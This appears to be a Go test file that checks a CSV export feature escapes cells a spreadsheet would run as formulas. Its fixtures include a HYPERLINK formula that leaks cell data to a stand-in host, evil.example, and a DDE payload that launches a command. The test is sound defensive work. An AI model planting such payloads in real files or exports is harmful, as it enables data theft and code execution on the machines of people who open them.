package api_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"reflect"
	"strings"
	"testing"

	explorer "explorer"
	"explorer/internal/testkit"
)

// TestExportCSVEscapesFormulas: a CSV export writes no cell a spreadsheet
// program would run as a formula (each gets a leading apostrophe), and
// uploading the export gives the same model back, apostrophes included.
func TestExportCSVEscapesFormulas(t *testing.T) {
	e := testkit.New(t)
	e.AddUser("ann", "")
	m := decodeModel(t, e.Upload("ann", "m.csv", []byte("Index,Label,Terms\n1,Food,burger\n"), "").Expect(t, 201))
	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`
	groups := []explorer.Group{
		{Title: hyperlink, Topics: []explorer.Topic{{Title: hyperlink, Terms: []string{"=cmd|' /C calc'!A0", "plain"}}}},
		{Title: "Signs", Topics: []explorer.Topic{
			{Title: "+1", Terms: []string{"+plus"}},
			{Title: "-3", Terms: []string{"-ing", "@home"}},
			{Title: "@SUM(A1:A9)", Terms: []string{"at"}},
		}},
		{Title: "Quotes", Topics: []explorer.Topic{
			{Title: "'=already quoted", Terms: []string{"''-twice"}},
			{Title: "'tis", Terms: []string{"'quoted'"}},
			{Title: "a=b", Terms: []string{"x-y"}},
		}},
	}
	put(t, e, "ann", m.ID, map[string]any{"groups": groups}, nil).Expect(t, 204)
	want := getModel(t, e, "ann", m.ID).Groups

	r := e.Do(testkit.Request{Method: "GET", Path: fmt.Sprintf("/v1/models/%d/export?format=csv", m.ID), User: "ann"}).Expect(t, 200)
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cells := map[string]bool{}
	for _, rec := range records {
		for _, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("exported cell %q starts a formula", c)
			}
			cells[c] = true
		}
	}
	for _, c := range []string{"'" + hyperlink, "'+1", "'-3", "'@SUM(A1:A9)", "''=already quoted", "'tis", "a=b", "'-ing, @home"} {
		if !cells[c] {
			t.Errorf("the export has no cell %q: %q", c, records)
		}
	}
	back := decodeModel(t, e.Upload("ann", "back.csv", r.Body, "").Expect(t, 201))
	if got, want := withoutIDs(back.Groups), withoutIDs(want); !reflect.DeepEqual(got, want) {
		t.Fatalf("uploaded export\n got %+v\nwant %+v", got, want)
	}
}
